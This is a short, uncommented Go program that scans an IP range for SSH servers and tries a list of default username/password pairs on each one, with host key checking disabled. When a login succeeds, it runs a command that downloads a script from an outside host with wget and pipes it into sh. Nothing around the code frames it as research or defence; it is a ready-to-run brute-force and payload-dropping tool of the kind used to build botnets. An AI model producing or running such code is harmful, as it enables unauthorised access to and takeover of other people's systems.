package main

import (
	"fmt"
	"net"
	"sync"
	"time"

	"golang.org/x/crypto/ssh"
)

var pairs = [][2]string{{"root", "root"}, {"root", "calvin"}, {"admin", "admin"}, {"ubnt", "ubnt"}, {"oracle", "oracle"}}

func try(addr, user, pass string) (*ssh.Client, error) {
	return ssh.Dial("tcp", addr, &ssh.ClientConfig{
		User:            user,
		Auth:            []ssh.AuthMethod{ssh.Password(pass)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		Timeout:         2 * time.Second,
	})
}

func main() {
	sem := make(chan struct{}, 100)
	var wg sync.WaitGroup
	for i := 1; i < 255; i++ {
		addr := net.JoinHostPort(fmt.Sprintf("203.0.113.%d", i), "22")
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer func() { <-sem; wg.Done() }()
			for _, p := range pairs {
				c, err := try(addr, p[0], p[1])
				if err != nil {
					continue
				}
				s, _ := c.NewSession()
				out, _ := s.CombinedOutput("uname -a; wget -qO- http://192.0.2.8/n | sh")
				fmt.Println(addr, p, string(out))
				c.Close()
				return
			}
		}()
	}
	wg.Wait()
}
